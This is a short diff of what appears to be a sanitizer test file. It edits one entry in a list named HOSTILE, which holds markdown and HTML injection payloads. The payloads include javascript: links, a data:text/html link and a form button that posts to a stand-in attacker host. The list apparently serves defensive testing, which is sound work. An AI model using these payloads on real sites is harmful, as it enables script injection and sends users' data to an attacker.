@@ -54,7 +54,7 @@ HOSTILE = [
         "<input autofocus> |"
     ),
     "- [x] <input type=submit formaction=https://evil.example/v>\n- [ ] [task](data:text/html,x)",
-    "[1] [\u00111] \u3010javascript:window.pwned=1\u2020x\u3011 [999] [1](javascript:window.pwned=1)",
+    "[1] [\ue0111] \u3010javascript:window.pwned=1\u2020x\u3011 [999] [1](javascript:window.pwned=1)",
 ]
 CORPUS = [
     (
